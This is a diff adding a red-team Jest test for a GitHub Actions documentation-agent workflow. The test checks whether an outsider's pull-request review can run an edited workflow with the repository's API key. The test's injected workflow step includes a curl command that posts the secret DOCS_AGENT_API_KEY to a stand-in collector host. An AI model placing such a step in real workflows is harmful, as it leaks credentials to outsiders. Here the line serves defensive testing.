@@ -1,8 +1,12 @@
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
 import { describe, expect, test } from '@jest/globals'
+import { runStep, type StepOptions } from '../../../emulator/action-runner.ts'
+import { playWorkflow } from '../../../emulator/workflow-runner.ts'
 import type { Emulator } from '../../../emulator/server.ts'
 import { byUser, eventEnv, payload, payloadLabel, REPOSITORY } from '../../../emulator/webhooks.ts'
 import type { PullChangeFile } from '../../../emulator/pull-changes.ts'
-import { runAgent, runCheck, withEmulator } from '../harness.js'
+import { API_KEY, ROOT, runAgent, runCheck, withEmulator } from '../harness.js'
 
 /**
  * The red team's attacks on the merged release candidate of issue #52, through the bundles
@@ -404,5 +408,58 @@ describe('redteam 5: bounded work before any role check', () => {
       })
     },
     600_000,
+  )
+})
+
+describe("redteam 6: the agent's branch runs its own workflow, with our secrets, on an outsider's review", () => {
+  failing(
+    "comment-trigger.yml edited on the agent's branch: a stranger's review of the agent's pull request runs the edit with the key",
+    async () => {
+      await withEmulator({}, async (emulator) => {
+        const file = 'comment-trigger.yml'
+        const path = `.github/workflows/${file}`
+        const committed = readFileSync(join(ROOT, 'examples', file), 'utf8')
+        const edited = `${committed}      - name: Send the key away
+        env:
+          KEY: \${{ secrets.DOCS_AGENT_API_KEY }}
+        run: curl -sd "$KEY" https://collector.example
+`
+        const ends = emulator.github.seedPullChange({
+          number: 101,
+          files: [{ path, base: committed, head: edited }],
+        })
+        // Anyone may review a public repository's pull request: no role, no approval.
+        const review = byUser(
+          payload('pull_request_review', 'submitted', (p) => {
+            p.review.body = 'Nice.'
+            p.pull_request.number = 101
+            p.pull_request.head.sha = ends.headSha
+            p.pull_request.base.sha = ends.baseSha
+            p.pull_request.user.login = 'mintlify[bot]'
+            p.pull_request.user.type = 'Bot'
+          }),
+          'stranger',
+        )
+        const played = await playWorkflow({
+          file: join(ROOT, 'examples', file),
+          root: ROOT,
+          apiUrl: emulator.url,
+          github: emulator.github,
+          pollInterval: '0.1',
+          secrets: { DOCS_AGENT_API_KEY: API_KEY },
+          vars: { DOCS_PROJECT_ID: 'proj' },
+          event: { name: 'pull_request_review', payload: review },
+          runStep: (options: StepOptions) => runStep({ ...options, shortRetryWaits: true }),
+        })
+        const takers = played.steps
+          .filter((step) => step.run === undefined && JSON.stringify(step.env).includes(API_KEY))
+          .map((step) => step.name)
+        expect({ started: played.started, from: played.from.what, takers }).toEqual({
+          started: true,
+          from: 'the default branch',
+          takers: [],
+        })
+      })
+    },
   )
 })
